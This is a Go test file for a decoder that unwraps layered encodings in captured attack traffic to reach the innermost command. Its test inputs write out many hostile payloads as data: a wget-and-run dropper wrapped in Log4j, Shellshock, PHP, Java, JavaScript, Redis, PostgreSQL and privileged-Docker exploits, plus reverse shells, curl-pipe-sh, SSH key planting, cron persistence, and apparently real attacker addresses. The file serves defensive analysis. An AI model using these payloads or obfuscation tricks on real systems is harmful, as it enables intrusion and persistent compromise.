package decode

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"
	"unicode/utf16"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func wide(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func zipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s)) // A buffer takes everything.
	_ = w.Close()
	return b.String()
}

func deflated(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(s)) // A buffer takes everything.
	_ = w.Close()
	return b.String()
}

func post(media, body string) string {
	return "POST /x HTTP/1.1\r\nHost: 192.0.2.1\r\nContent-Type: " + media + "\r\n\r\n" + body
}

// TestStudy: the Log4j requests of the study lead to the server and the command that it reports.
func TestStudy(t *testing.T) {
	payloads := studyPayloads(t)
	for n, port := range map[int]string{11: ":1942", 13: ":1980"} {
		tr := Decode(payloads[n], Options{})
		all := show(tr)
		if !strings.Contains(all, "LDAP lookup at 185.196.220.213:1389; fires in Log4j 2.14.1") {
			t.Errorf("payload %d: no lookup\n%s", n, all)
		}
		i := tr.Cargo()
		if i < 0 || !bytes.Contains(tr.Nodes[i].Bytes, []byte("curl http://135.148.91.146"+port+"/aktualisieren.sh")) {
			t.Errorf("payload %d: not the command\n%s", n, all)
		}
	}
	if tr := Decode(payloads[12], Options{}); len(tr.Nodes) != 1 {
		t.Errorf("a plain request has layers:\n%s", show(tr))
	}
}

const dropper = "cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; ./x.sh"

// TestCargo: the innermost command comes out, whatever it is wrapped in.
func TestCargo(t *testing.T) {
	form := strings.NewReplacer(" ", "+", ";", "%3B", "/", "%2F", ":", "%3A").Replace
	escaped := strings.NewReplacer(`"`, `\"`, "'", `\u0027`).Replace
	octal := func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			b.WriteString(`\` + string([]byte{'0' + s[i]>>6, '0' + s[i]>>3&7, '0' + s[i]&7}))
		}
		return b.String()
	}
	numbers := func(s, call, between string) string {
		var list []string
		for i := range len(s) {
			list = append(list, call+strings.TrimLeft(string([]byte{'0' + s[i]/100, '0' + s[i]/10%10, '0' + s[i]%10}), "0")+")")
		}
		return strings.Join(list, between)
	}
	for name, in := range map[string]string{
		"query":                "GET /cgi?x=1&cmd=" + form(dropper) + " HTTP/1.1\r\n\r\n",
		"query without name":   "GET /shell?" + strings.NewReplacer(" ", "+").Replace(dropper) + " HTTP/1.1\r\n\r\n",
		"percent in path":      "GET /cgi-bin/;" + strings.ReplaceAll(dropper, " ", "%20") + " HTTP/1.1\r\n\r\n",
		"form":                 post("application/x-www-form-urlencoded", "a=b&ip="+form(dropper)),
		"chunked":              "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" + "5\r\n" + dropper[:5] + "\r\n36\r\n" + dropper[5:] + "\r\n0\r\n\r\n",
		"gzip body":            "POST / HTTP/1.1\r\nContent-Encoding: gzip\r\n\r\n" + zipped(dropper),
		"zlib":                 deflated(dropper),
		"base64 in gzip":       zipped("x=" + b64(dropper)),
		"base64 in base64":     b64(b64(dropper)),
		"base64url unpadded":   strings.TrimRight(base64.URLEncoding.EncodeToString([]byte(dropper)), "="),
		"base64 in lines":      b64(dropper + "; " + strings.Repeat("sleep 1; ", 9))[:76] + "\r\n" + b64(dropper + "; " + strings.Repeat("sleep 1; ", 9))[76:],
		"hex":                  hex.EncodeToString([]byte(dropper)),
		"hex escapes":          `\x63\x64\x20\x2f` + dropper[4:],
		"octal escapes":        octal(dropper),
		"unicode escapes":      `\u0063\u0064` + dropper[2:],
		"percent-u":            "%u0063d" + dropper[2:],
		"html":                 strings.ReplaceAll(dropper, ";", "&#59;"),
		"json":                 post("application/json", `{"a":{"run":"`+escaped(dropper)+`"}}`),
		"json in json":         post("application/json", `{"v":"{\"cmd\":\"`+dropper+`\"}"}`),
		"multipart":            post("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n"+dropper+"\r\n--XX--\r\n"),
		"xml":                  post("text/xml", "<?xml version=\"1.0\"?><a><b>"+strings.ReplaceAll(dropper, ";", "&#x3b;")+"</b></a>"),
		"cdata":                post("text/xml", "<a><![CDATA["+dropper+"]]></a>"),
		"soap with backticks":  post("text/xml", "<NewStatusURL>$("+dropper+")</NewStatusURL>"),
		"shellshock":           "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c \"" + dropper + "\"\r\n\r\n",
		"php":                  "<?php system('" + dropper + "'); ?>",
		"php base64":           "<?php eval(base64_decode('" + b64("system('"+dropper+"');") + "'));",
		"php chr":              "<?php system(" + numbers(dropper, "chr(", ".") + ");",
		"php joined":           "<?php $a='cd /tmp; '; system($a.'" + dropper[9:] + "');",
		"php serialized":       `O:4:"Task":1:{s:3:"cmd";s:60:"` + dropper + `";}`,
		"python base64":        "import os;exec(__import__('base64').b64decode('" + b64("import os; os.system('"+dropper+"')") + "'))",
		"java base64":          `Runtime.getRuntime().exec(new String(java.util.Base64.getDecoder().decode("` + b64(dropper) + `")))`,
		"elasticsearch":        "POST /_search?pretty HTTP/1.1\r\n\r\n" + `{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"` + dropper + `\").getText()"}}}`,
		"js":                   "require('child_process').execSync('" + dropper + "').toString()",
		"js spawn":             "require('child_process').spawnSync('sh',['-c','" + dropper + "'])",
		"js buffer":            `process.mainModule.require("child_process").exec(Buffer.from("` + b64(dropper) + `","base64").toString())`,
		"js variable":          `var c = require('child_process'); var x = atob("` + b64(dropper) + `"); c.exec(x)`,
		"js codes":             "require('child_process').exec(String.fromCharCode(" + strings.NewReplacer("(", "", ")", "").Replace(numbers(dropper, "(", ",")) + "))",
		"flight":               post("multipart/form-data; boundary=XX", "--XX\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n{\"then\":\"$1:__proto__:then\",\"_response\":{\"_prefix\":\"var res=process.mainModule.require('child_process').execSync('"+dropper+"').toString();;throw Object.assign(new Error('NEXT_REDIRECT'),{digest:`${res}`});\"}}\r\n--XX--\r\n"),
		"java":                 "(#a=@java.lang.Runtime@getRuntime().exec(\"" + dropper + "\"))",
		"java words":           `new java.lang.ProcessBuilder(new String[]{"sh","-c","` + dropper + `"}).start()`,
		"python":               "import os; os.system('" + dropper + "')",
		"echo to sh":           "echo " + b64(dropper) + "|base64 -d|sh",
		"echo in braces":       "bash -c {echo," + b64(dropper) + "}|{base64,-d}|{bash,-i}",
		"here-string":          "base64 -d <<< " + b64(dropper) + " | bash",
		"xxd":                  "echo " + hex.EncodeToString([]byte(dropper)) + " | xxd -r -p | sh",
		"bash -c":              `/bin/bash -c "` + dropper + `"`,
		"nohup sudo":           "sudo nohup bash -c '" + dropper + "' &",
		"eval":                 `sh -c 'eval "` + dropper + `"'`,
		"variables":            "A=" + b64(dropper) + ";echo $A|base64 -d|sh",
		"echo -e":              `echo -e "\x63\x64` + dropper[2:] + `" | sh`,
		"substituted":          `bash -c "$(echo ` + b64(dropper) + `|base64 -d)"`,
		"docker":               post("application/json", `{"Image":"alpine","Cmd":["chroot","/mnt","/bin/sh","-c","`+dropper+`"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}`),
		"docker, options only": post("application/json", `{"Image":"alpine","Cmd":["-c","`+dropper+`"],"HostConfig":{}}`),
		"base64 in a part":     "sh -c '" + dropper + "; echo " + b64("curl -fsSL http://192.0.2.9/c\n") + " >> /var/spool/x'",
		"docker exec":          post("application/json", `{"AttachStdout":true,"Cmd":["sh","-c","`+dropper+`"]}`),
		"kubernetes":           post("application/json", `{"kind":"Pod","spec":{"containers":[{"image":"alpine","command":["sh","-c"],"args":["`+dropper+`"]}]}}`),
		"redis cron":           "set x \"\\n\\n*/2 * * * * " + dropper + "\\n\\n\"\r\n",
		"redis resp":           "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$74\r\n\n\n*/2 * * * * " + dropper + "\n\n\r\n",
		"redis script":         "eval \"local io = f(); local f = io.popen('" + dropper + "', 'r')\" 0\r\n",
		"postgresql":           "Q\x00\x00\x00\x60COPY t FROM PROGRAM '" + dropper + "'\x00",
		"postgresql base64":    "Q\x00\x00\x00\xa0COPY t FROM PROGRAM 'echo " + b64(dropper) + " | base64 -d | bash'\x00",
		"jupyter":              `["stdin","` + dropper + `\r"]`,
		"a word of Redis":      "save; " + dropper,
		"telnet":               "enable\r\nshell\r\n" + dropper + "\r\n",
		"log4j":                "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + b64(dropper) + "}\r\n\r\n",
		"log4j percent":        "GET /?x=$%7Bjndi:ldap://192.0.2.1:1389/Basic/Command/Base64/" + b64(dropper) + "%7D HTTP/1.1\r\n\r\n",
	} {
		tr := Decode([]byte(in), Options{})
		i := tr.Cargo()
		if i < 0 || !strings.HasPrefix(strings.TrimSpace(string(tr.Nodes[i].Bytes)), dropper) {
			t.Errorf("%s: %q has cargo %d:\n%s", name, in, i, show(tr))
		}
		if tr.Truncated != "" {
			t.Errorf("%s: truncated by %s", name, tr.Truncated)
		}
	}
}

// TestImage: a container without a command of its own runs what its image has to run.
func TestImage(t *testing.T) {
	tr := Decode([]byte(post("application/json", `{"Image":"somebody/miner","Cmd":null,"HostConfig":{"Privileged":true}}`)), Options{})
	if i := tr.Cargo(); i < 0 || string(tr.Nodes[i].Bytes) != "somebody/miner" {
		t.Errorf("cargo %d of\n%s", i, show(tr))
	}
}

// TestNotes: what a step is stands in words.
func TestNotes(t *testing.T) {
	for in, want := range map[string]string{
		"config set dir /root/.ssh/\r\n":                                                "the database is to be written to the folder /root/.ssh/",
		"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$4\r\nroot\r\n":        "the database is to be written to the file root",
		"SLAVEOF 192.0.2.8 60101\r\n":                                                   "copies everything from 192.0.2.8:60101",
		"MODULE LOAD /tmp/exp.so\r\n":                                                   "loads the module /tmp/exp.so",
		"bash -i >& /dev/tcp/192.0.2.7/4444 0>&1":                                       "connects to 192.0.2.7:4444",
		"nc 192.0.2.7 4444 -e /bin/sh; cd /tmp":                                         "connects to 192.0.2.7:4444 and gives it a shell",
		"curl -o /tmp/a http://192.0.2.7/a; sh /tmp/a":                                  "downloads http://192.0.2.7/a to /tmp/a",
		"curl -s http://192.0.2.7/a | sh":                                               "what comes is run by sh",
		"cd /tmp; chattr -ia /etc/crontab":                                              "locks or unlocks against change: /etc/crontab",
		"cd /root; echo ssh-rsa AAAAB3Nz > .ssh/authorized_keys":                        "SSH key written to .ssh/authorized_keys",
		"cd /; echo " + b64("* * * * * root "+dropper+"\n") + "|base64 -d>/etc/crontab": "to be run by cron as root",
		"cd /tmp; wget http://192.0.2.7/x -O -> /tmp/t;sh /tmp/t'":                      "] wget http://192.0.2.7/x -O - > /tmp/t",
		"/bin/busybox wget -g 192.0.2.7 -l /tmp/h -r /mips; /tmp/h":                     "downloads 192.0.2.7",
		"tftp -g -r x 192.0.2.7":                                                        "downloads with tftp",
		"powershell -enc " + wide("IEX (New-Object Net.WebClient)"):                     "base64 of UTF-16LE given to powershell",
		post("application/json", `{"Image":"alpine","Env":["A=b"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}`): "container from image alpine; privileged; mounts /:/mnt; environment A=b",
	} {
		if tr := Decode([]byte(in), Options{}); !strings.Contains(show(tr), want) {
			t.Errorf("%q: want %q in\n%s", in, want, show(tr))
		}
	}
}

// TestHiddenWords: quotes, backslashes and variables within words hide nothing.
func TestHiddenWords(t *testing.T) {
	for in, want := range map[string]string{
		`cd /tmp; w\g\et http://192.0.2.9/x -O- | sh`:                                    "wget http://192.0.2.9/x",
		`cd /tmp; wg""et http://192.0.2.9/x`:                                             "wget http://192.0.2.9/x",
		`cd /tmp; c''url http://192.0.2.9/x`:                                             "curl http://192.0.2.9/x",
		"cd /tmp; A=wget;$A http://192.0.2.9/x":                                          "wget http://192.0.2.9/x",
		"cd /tmp; wget${IFS}http://192.0.2.9/x":                                          "wget http://192.0.2.9/x",
		`cd /tmp; wg$@et http://192.0.2.9/x`:                                             "wget http://192.0.2.9/x",
		`cd /tmp; $(echo wget) http://192.0.2.9/x`:                                       "wget http://192.0.2.9/x",
		`cd /tmp; $'\x77get' http://192.0.2.9/x`:                                         "wget http://192.0.2.9/x",
		`cd /tmp; wget 'http://ki\s\s.a-d\og.t\o\p/t.sh'`:                                "http://kiss.a-dog.top/t.sh",
		`cd /tmp; if true; then wget "http://192.0.2.9/'x`:                               "wget http://192.0.2.9/'x",
		"cd /tmp; (crontab -l; echo '* * * * * curl http://x.example/a|sh') | crontab -": "curl http://x.example/a|sh",
	} {
		if tr := Decode([]byte(in), Options{}); !strings.Contains(show(tr), want) {
			t.Errorf("%q: want %q in\n%s", in, want, show(tr))
		}
	}
}

// TestNothingToDecode: what is plain has no layers.
func TestNothingToDecode(t *testing.T) {
	for _, in := range []string{
		"", "\n", "SSH-2.0-Go\r\n", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
		"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.121 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\r\nAccept-Encoding: gzip\r\n\r\n",
		"GET /v1.24/containers/json?all=1&limit=0 HTTP/1.1\r\nUser-Agent: curl/7.68.0\r\n\r\n", "*1\r\n$4\r\nPING\r\n", "PING\r\n", "INFO\r\n",
		"d41d8cd98f00b204e9800998ecf8427e", "GET / HTTP/1.1\r\nUser-Agent: Wget/1.20.3 (linux-gnu)\r\n\r\n", "Please find the attached echo of the test",
	} {
		if tr := Decode([]byte(in), Options{}); len(tr.Nodes) != 1 || tr.Truncated != "" {
			t.Errorf("%q has layers:\n%s", in, show(tr))
		}
	}
}

// TestPlaces: a node's place lies within its parent, parents come first, and steps say the same.
func TestPlaces(t *testing.T) {
	for _, e := range exploits(t)[:200] {
		check(t, Decode(e.Body, Options{}), Options{})
	}
}

// check fails where a tree breaks a promise.
func check(t *testing.T, tr *Tree, o Options) {
	t.Helper()
	o = o.withDefaults()
	out := 0
	for i, n := range tr.Nodes {
		if i == 0 {
			continue
		}
		if n.Parent < 0 || n.Parent >= i {
			t.Fatalf("node %d has parent %d", i, n.Parent)
		}
		if n.Offset < 0 || n.Length < 0 || n.Offset+n.Length > len(tr.Nodes[n.Parent].Bytes) {
			t.Errorf("node %d (%s) at %d+%d of %d", i, n.Kind, n.Offset, n.Length, len(tr.Nodes[n.Parent].Bytes))
		}
		if tr.Depth(i) > o.MaxDepth {
			t.Errorf("node %d at depth %d", i, tr.Depth(i))
		}
		if len(n.Bytes) == 0 || n.Kind == "" || len(n.Note) > 1200 {
			t.Errorf("node %d: %+v", i, n)
		}
		out += len(n.Bytes)
	}
	if out > o.MaxOutput || len(tr.Nodes) > o.MaxNodes+1 {
		t.Errorf("%d bytes in %d nodes", out, len(tr.Nodes))
	}
	if steps := tr.Steps(); len(steps) != len(tr.Nodes)-1 {
		t.Errorf("%d steps of %d nodes", len(steps), len(tr.Nodes))
	}
	if c := tr.Cargo(); c >= 0 && !tr.Nodes[c].Runs {
		t.Errorf("the cargo %d does not run", c)
	}
}
